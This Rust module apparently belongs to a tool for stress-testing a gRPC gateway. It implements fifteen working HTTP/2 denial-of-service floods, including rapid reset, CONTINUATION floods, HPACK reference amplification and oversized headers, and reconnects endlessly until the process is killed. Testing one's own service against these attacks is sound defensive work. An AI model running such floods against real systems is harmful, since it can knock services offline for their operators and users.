//! Fifteen floods of HTTP/2 frames, each on a connection that is made again whenever it is closed.

use std::net::{Ipv4Addr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::Ordering;
use std::time::Duration;

use tokio::time::sleep;

use crate::attackers::Counts;
use crate::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE,
    call_headers, connect, frame, literal,
};

pub(crate) const FLOODS: [&str; 15] = [
    "rapid_reset",
    "headers_and_data_reset",
    "continuation",
    "empty_continuation",
    "ping",
    "settings",
    "empty_data",
    "window_update",
    "zero_window_update",
    "priority",
    "hpack_references",
    "hpack_table_sizes",
    "large_headers",
    "unknown_frames",
    "unknown_methods",
];

const GET: &str = "/recoup.v1.RefundService/GetRefund";

/// Floods until the process is killed.
pub(crate) async fn run(name: String, from: Ipv4Addr, to: SocketAddr, counts: Arc<Counts>) {
    loop {
        if let Ok((mut reader, mut writer)) = connect(from, to, None).await {
            counts.made.fetch_add(1, Ordering::Relaxed);
            // What the gateway sends is read, so that it can go on sending.
            let reading = tokio::spawn(async move { while reader.next().await.is_ok() {} });
            let mut stream = 1;
            while stream < 0x3fff_ffff && writer.write(&part(&name, stream)).await.is_ok() {
                // The streams of one part.
                stream += 128;
            }
            reading.abort();
            counts.ended.fetch_add(1, Ordering::Relaxed);
        }
        sleep(Duration::from_millis(5)).await;
    }
}

/// The next bytes of a flood, from this stream number on.
fn part(name: &str, first: u32) -> Vec<u8> {
    let streams = || (first..first + 128).step_by(2);
    let headers = || call_headers(GET);
    let repeated = |frame: Vec<u8>| frame.repeat(64);
    let cancel = 8_u32.to_be_bytes();
    match name {
        "rapid_reset" => streams()
            .flat_map(|stream| {
                [frame(HEADERS, END_HEADERS, stream, &headers()), frame(RST_STREAM, 0, stream, &cancel)].concat()
            })
            .collect(),
        "headers_and_data_reset" => streams()
            .flat_map(|stream| {
                let mut bytes = frame(HEADERS, END_HEADERS, stream, &headers());
                bytes.extend(frame(DATA, 0, stream, &[0; 64]));
                bytes.extend(frame(RST_STREAM, 0, stream, &cancel));
                bytes
            })
            .collect(),
        // Headers that never end.
        "continuation" if first == 1 => frame(HEADERS, 0, 1, &headers()),
        "continuation" => repeated(frame(CONTINUATION, 0, 1, &literal("x-more", &"y".repeat(1_000)))),
        "empty_continuation" if first == 1 => frame(HEADERS, 0, 1, &headers()),
        "empty_continuation" => repeated(frame(CONTINUATION, 0, 1, &[])),
        "ping" => repeated(frame(PING, 0, 0, &[7; 8])),
        "settings" => repeated(frame(SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0])),
        "empty_data" if first == 1 => frame(HEADERS, END_HEADERS, 1, &headers()),
        "empty_data" => repeated(frame(DATA, 0, 1, &[])),
        "window_update" => repeated(frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes())),
        "zero_window_update" => repeated(frame(WINDOW_UPDATE, 0, 0, &0_u32.to_be_bytes())),
        "priority" => streams().flat_map(|stream| frame(PRIORITY, 0, stream, &[0, 0, 0, 0, 16])).collect(),
        // One indexed field of 4 KiB, and then references to it of one byte each.
        "hpack_references" => streams()
            .flat_map(|stream| {
                let mut block = headers();
                let mut field = literal("x-large", &"z".repeat(3_800));
                field[0] = 0x40;
                block.extend(field);
                block.extend([0x80 | 62; 8_000]);
                frame(HEADERS, END_HEADERS | END_STREAM, stream, &block)
            })
            .collect(),
        "hpack_table_sizes" => streams()
            .flat_map(|stream| {
                let mut block = [0x20, 0x3f, 0xe1, 0x1f].repeat(1_000);
                block.extend(headers());
                frame(HEADERS, END_HEADERS | END_STREAM, stream, &block)
            })
            .collect(),
        "large_headers" => streams()
            .flat_map(|stream| {
                let mut block = headers();
                block.extend(literal("x-large", &"z".repeat(15_900)));
                frame(HEADERS, END_HEADERS | END_STREAM, stream, &block)
            })
            .collect(),
        "unknown_frames" => repeated(frame(0xbb, 0, 0, &[1; 1_000])),
        "unknown_methods" => streams()
            .flat_map(|stream| frame(HEADERS, END_HEADERS | END_STREAM, stream, &call_headers("/made.up/Path")))
            .collect(),
        other => panic!("there is no attack {other}"),
    }
}
